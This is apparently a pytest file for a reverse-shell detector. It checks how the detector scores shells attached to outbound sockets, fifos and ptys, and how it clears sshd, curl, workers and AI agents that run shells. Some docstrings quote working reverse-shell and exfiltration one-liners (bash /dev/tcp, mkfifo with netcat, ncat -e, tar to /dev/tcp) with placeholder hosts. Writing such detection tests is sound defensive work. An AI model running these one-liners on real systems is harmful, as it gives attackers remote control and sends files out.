"""Shells at sockets, behind pipes and ptys, and what merely looks so."""

from __future__ import annotations

import pytest

from tests.detect.scene import MS, OUTSIDE, Scene

SHELL = 710
NEIGHBOUR = "10.1.2.3"


def at_socket(scene: Scene, image: str, inode: int, *, stderr: bool = True, parent: int = 700) -> None:
    socket = ("socket", inode)
    scene.process(SHELL, image, parent, stdin=socket, stdout=socket, stderr=socket if stderr else ("null", 0))


@pytest.mark.parametrize(
    ("image", "stderr", "address", "least", "most"),
    [
        ("/bin/bash", True, OUTSIDE, 85, 100),
        ("/bin/bash", False, OUTSIDE, 85, 100),
        ("/usr/bin/python3.11", True, OUTSIDE, 85, 100),
        ("/tmp/.cache/worker", True, OUTSIDE, 70, 84),  # a shell under another name
        ("/tmp/.cache/worker", False, OUTSIDE, 60, 70),
        ("/bin/sh", True, NEIGHBOUR, 65, 75),
        ("/bin/sh", True, "127.0.0.1", 30, 40),
    ],
)
def test_a_program_whose_streams_are_a_flow_that_it_opened(
    image: str, stderr: bool, address: str, least: int, most: int
) -> None:
    scene = Scene()
    flow = scene.connect(700, address, 4444)
    at_socket(scene, image, scene.inode(flow), stderr=stderr)
    assert least <= scene.score("reverse_shell") <= most
    event = scene.of("reverse_shell")[0]
    assert (event.ProcessId, event.Image, event.Inner, event.DestinationIp) == (SHELL, image, "socket", address)


def test_a_shell_behind_stunnel_on_loopback() -> None:
    scene = Scene()
    flow = scene.connect(700, "127.0.0.1", 2222, source=("127.0.0.1", 41_000))
    scene.connect(650, "127.0.0.1", 41_000, initiated=False, source=("127.0.0.1", 2222))
    scene.connect(650, OUTSIDE, 443)
    at_socket(scene, "/bin/sh", scene.inode(flow))
    assert scene.score("reverse_shell") >= 85


def test_an_accepted_socket_is_inetds_or_sshds() -> None:
    scene = Scene()
    flow = scene.connect(700, "203.0.113.80", 50_000, initiated=False)
    at_socket(scene, "/bin/sh", scene.inode(flow))
    assert scene.of("reverse_shell") == []


def test_a_socketpair_is_no_flow() -> None:
    """sshd's sessions, and Node's `pipe`, are unix sockets."""
    scene = Scene()
    scene.recognise(scene.connect(500, OUTSIDE, 443), "tls", Alpn="h2")
    at_socket(scene, "/bin/bash", 999)
    scene.process(SHELL + 1, "/bin/bash", 500, stdin=("socket", 1), stdout=("socket", 2), stderr=("socket", 3))
    scene.wait(3)
    assert scene.score("reverse_shell") < 40
    assert not scene.detectors.busy


def test_the_flow_may_be_told_after_the_shell() -> None:
    scene = Scene()
    flow = scene.connect(700, OUTSIDE, 4444, told=False)
    at_socket(scene, "/bin/sh", scene.inode(flow))
    assert scene.produced == []
    scene.tell(scene.flows[flow])
    scene.wait(0.3)
    assert scene.score("reverse_shell") >= 85


def test_a_flow_told_without_its_inode_is_found_by_its_holders() -> None:
    scene = Scene()
    flow = scene.connect(700, OUTSIDE, 4444, inode=False)
    scene.world.held[scene.inode(flow)] = (700, SHELL)
    at_socket(scene, "/bin/sh", scene.inode(flow))
    scene.wait(0.3)
    assert scene.score("reverse_shell") >= 85


def test_a_socket_without_a_flow_is_suspect_where_flows_were_dropped() -> None:
    scene = Scene()
    for number in range(400):
        scene.connect(600, f"203.0.113.{number % 200}", 80)
    at_socket(scene, "/bin/sh", 5)
    scene.wait(2)
    assert scene.score("reverse_shell") == 40


@pytest.mark.parametrize("image", ["/bin/bash", "/tmp/renamed"])
def test_bash_that_connects_by_itself(image: str) -> None:
    """`exec 0<>/dev/tcp/HOST/PORT >&0 2>&0`: no exec shows it."""
    scene = Scene()
    flow = scene.connect(SHELL, OUTSIDE, 4444, image=image)
    socket = scene.inode(flow)
    scene.wait(0.5)
    assert scene.of("reverse_shell") == []
    scene.world.streams[SHELL] = ("socket", "socket", "socket", socket, socket, socket)
    scene.wait(1)
    assert scene.score("reverse_shell") >= (85 if image == "/bin/bash" else 70)


def test_curl_that_connects_is_looked_at_and_left() -> None:
    scene = Scene()
    scene.connect(SHELL, OUTSIDE, 443)
    scene.world.streams[SHELL] = ("pipe", "pipe", "pipe", 1, 2, 3)
    scene.wait(3)
    assert scene.produced == []
    assert not scene.detectors.busy


def test_a_program_with_many_flows_is_looked_at_twice() -> None:
    scene = Scene()
    for number in range(100):
        scene.connect(SHELL, f"203.0.113.{number}", 443)
    scene.wait(3)
    assert scene.world.looks == 2


def commands(scene: Scene, flow: int, shell: int, count: int) -> None:
    """What comes in on the flow is typed into the shell, which runs it."""
    for number in range(count):
        scene.wait(3)
        scene.push(flow, 12)
        scene.at += 20 * MS
        scene.process(800 + number, "/usr/bin/id", shell, stdin=("pipe", 41), stdout=("pipe", 42))
        scene.move(flow, out=300)


def fifo(scene: Scene, address: str = OUTSIDE) -> int:
    """`mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT >f`: the flow's holder is no parent of the shell."""
    scene.world.pipes = {41: (720, SHELL), 42: (SHELL, 730)}
    scene.process(SHELL, "/bin/dash", 700, stdin=("pipe", 41), stdout=("pipe", 42))
    scene.at += 30 * MS
    return scene.connect(730, address, 4444)


def test_a_fifo_and_netcat() -> None:
    scene = Scene()
    flow = fifo(scene)
    scene.wait(2)
    assert 30 <= scene.score("reverse_shell") < 60
    commands(scene, flow, SHELL, 4)
    assert scene.score("reverse_shell") >= 60
    event = scene.of("reverse_shell")[-1]
    assert event.Repetitions == 3 and event.Inner == "pipe" and "730" in event.HolderProcessIds.split()


def test_a_prompt_that_goes_out_decides_at_once() -> None:
    scene = Scene()
    flow = fifo(scene)
    scene.wait(2)
    scene.recognise(flow, "shell", MessageKind="prompt")
    assert scene.score("reverse_shell") >= 60


def test_python_pty_spawn_at_a_socket_and_socat_with_a_pty() -> None:
    scene = Scene()
    flow = scene.connect(700, OUTSIDE, 4444)
    scene.process(SHELL, "/bin/bash", 700, stdin=("pty", 3))
    commands(scene, flow, SHELL, 4)
    assert scene.score("reverse_shell") >= 60
    assert scene.of("reverse_shell")[-1].Inner == "pty"


def test_a_pty_whose_master_another_process_holds() -> None:
    scene = Scene()
    scene.world.masters[3] = (750,)
    flow = scene.connect(750, OUTSIDE, 4444)
    scene.process(SHELL, "/bin/bash", 1, stdin=("pty", 3))
    scene.wait(1)
    commands(scene, flow, SHELL, 4)
    assert scene.score("reverse_shell") >= 60


@pytest.mark.parametrize("alpn", ["http/1.1", "h2"])
@pytest.mark.parametrize("stream", ["pipe", "pty"])
def test_an_agent_that_keeps_a_shell_and_reads_a_models_replies(stream: str, alpn: str) -> None:
    scene = Scene()
    llm = scene.connect(500, OUTSIDE, 443)
    scene.recognise(llm, "tls", Alpn=alpn)
    scene.process(SHELL, "/bin/bash", 500, stdin=(stream, 41))
    commands(scene, llm, SHELL, 50)
    assert scene.score("reverse_shell") < 50


def test_rocks_session_shells_hang_at_accepted_flows() -> None:
    scene = Scene()
    asked = scene.connect(510, "203.0.113.77", 40_000, initiated=False)
    scene.process(SHELL, "/bin/bash", 510, stdin=("pty", 4))
    commands(scene, asked, SHELL, 20)
    assert scene.of("reverse_shell") == []


def test_an_agents_many_shells_do_not_scan_without_end() -> None:
    scene = Scene()
    scene.connect(400, OUTSIDE, 443)
    for number in range(300):
        scene.process(1000 + number, "/bin/bash", 999, stdin=("pipe", number + 1))
        scene.wait(0.1)
        scene.exits(1000 + number)
    assert scene.world.scans <= 20
    assert scene.of("reverse_shell") == []


def test_a_flow_that_ended_feeds_no_more() -> None:
    scene = Scene()
    flow = scene.connect(700, OUTSIDE, 443)
    scene.process(SHELL, "/bin/bash", 700, stdin=("pipe", 41))
    scene.wait(2)
    scene.end(flow)
    before = len(scene.of("reverse_shell"))
    later = scene.connect(700, OUTSIDE, 4444)
    scene.wait(2)
    commands(scene, later, SHELL, 4)
    assert len(scene.of("reverse_shell")) > before
    assert scene.of("reverse_shell")[-1].Cookies == f"{later:x}"


# Shells by what they do.


def typed(
    scene: Scene,
    flow: int,
    parent: int,
    count: int,
    *,
    came: int = 12,
    streams: tuple[str, int, int] = ("pipe", 41, 42),
) -> None:
    """A program of `parent` for each time that data comes in, with `parent`'s own streams unless told."""
    kind, stdin, stdout = streams
    for number in range(count):
        scene.wait(3)
        scene.push(flow, came)
        scene.at += 20 * MS
        scene.process(900 + number, "/usr/bin/expr", parent, stdin=(kind, stdin), stdout=(kind, stdout))


RENAMED = "/tmp/updated"


@pytest.mark.parametrize("tls", [False, True])
@pytest.mark.parametrize("later", [False, True], ids=["connects-before", "connects-after"])
def test_a_shell_under_another_name_that_a_relay_feeds(tls: bool, later: bool) -> None:
    """`ncat -e` has the connection before it starts the shell, socat after."""
    scene = Scene()
    flow = 0 if later else scene.connect(700, OUTSIDE, 4444)
    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
    flow = flow or scene.connect(700, OUTSIDE, 4444)
    if tls:
        scene.recognise(flow, "tls")
    typed(scene, flow, SHELL, 2)
    assert scene.score("reverse_shell") < 60
    typed(scene, flow, SHELL, 2)
    assert scene.score("reverse_shell") >= 60
    event = scene.of("reverse_shell")[-1]
    assert (event.Image, event.Inner, event.HolderProcessIds) == (RENAMED, "pipe", "700")


def test_a_shell_under_another_name_behind_a_fifo() -> None:
    """Who feeds it is looked for only once it starts programs after data came in."""
    scene = Scene()
    scene.world.pipes = {41: (720, SHELL), 42: (SHELL, 730)}
    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
    flow = scene.connect(730, OUTSIDE, 4444)
    scene.wait(3)
    assert scene.world.scans == 0
    typed(scene, flow, SHELL, 4)
    assert scene.world.scans <= 4
    assert scene.score("reverse_shell") >= 60


def test_a_prompt_that_goes_out_has_its_shell_looked_for() -> None:
    scene = Scene()
    scene.world.pipes = {41: (720, SHELL), 42: (SHELL, 730)}
    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
    flow = scene.connect(730, OUTSIDE, 4444)
    scene.recognise(flow, "shell", MessageKind="prompt")
    scene.wait(1)
    assert scene.score("reverse_shell") >= 50
    typed(scene, flow, SHELL, 1)
    assert scene.score("reverse_shell") >= 60


def test_a_shell_that_reads_lines_and_answers_on_the_flow() -> None:
    """`exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read line; do $line >&5 2>&5; done`."""
    scene = Scene()
    flow = scene.connect(700, OUTSIDE, 4444, image="/bin/bash")
    for number in range(4):
        scene.wait(3)
        scene.push(flow, 12)
        scene.at += 20 * MS
        scene.process(800 + number, "/usr/bin/id", 701, stdin=("pipe", 41), stdout=("socket", scene.inode(flow)))
    assert scene.score("reverse_shell") >= 60
    event = scene.of("reverse_shell")[-1]
    assert (event.ProcessId, event.Image, event.Inner) == (700, "/bin/bash", "socket")


def test_output_to_a_flow_on_which_nothing_comes_is_no_answer() -> None:
    """`tar c . >/dev/tcp/HOST/PORT`, again and again, or HTTP by hand."""
    scene = Scene()
    out = scene.connect(700, OUTSIDE, 9000, image="/bin/bash")
    web = scene.connect(700, OUTSIDE, 80, image="/bin/bash")
    scene.recognise(web, "http", Method="GET")
    for number in range(20):
        scene.wait(3)
        scene.push(web, 800)
        for flow in (out, web):
            scene.process(800 + number, "/usr/bin/tar", 700, stdin=("pipe", 41), stdout=("socket", scene.inode(flow)))
    assert scene.score("reverse_shell") < 50


def test_a_line_is_no_models_reply() -> None:
    """Over TLS that names no HTTP, what tells an agent from a terminal is how much comes before a program starts."""
    scores = {}
    for came in (30, 2500):
        scene = Scene()
        flow = scene.connect(500, OUTSIDE, 443)
        scene.recognise(flow, "tls")
        scene.process(SHELL, "/bin/bash", 500, stdin=("pipe", 41), stdout=("pipe", 42))
        typed(scene, flow, SHELL, 20, came=came)
        scores[came] = scene.score("reverse_shell")
    assert scores[30] >= 60 > scores[2500] >= 40


@pytest.mark.parametrize("case", ["captured", "http", "private"])
def test_workers_that_start_programs_are_no_shells(case: str) -> None:
    """What they run has its output taken by them; or they are an agent's; or their queue is a neighbour's."""
    scene = Scene()
    flow = scene.connect(700, NEIGHBOUR if case == "private" else OUTSIDE, 6379)
    if case == "http":
        scene.recognise(flow, "tls", Alpn="h2")
    scene.process(SHELL, "/usr/bin/python3", 700, stdin=("pipe", 41), stdout=("pipe", 42))
    typed(scene, flow, SHELL, 30, streams=("pipe", 41, 77 if case == "captured" else 42))
    assert scene.score("reverse_shell") < 60


def test_pipelines_without_end_are_bounded_and_never_looked_for() -> None:
    scene = Scene()
    flow = scene.connect(600, OUTSIDE, 443)
    scene.recognise(flow, "tls", Alpn="h2")
    for number in range(1000):
        scene.process(1000 + number, "/usr/bin/sort", 999, stdin=("pipe", number), stdout=("pipe", number + 1))
        scene.at += 5 * MS
    scene.wait(3)
    assert scene.world.scans == 0
    assert scene.of("reverse_shell") == []
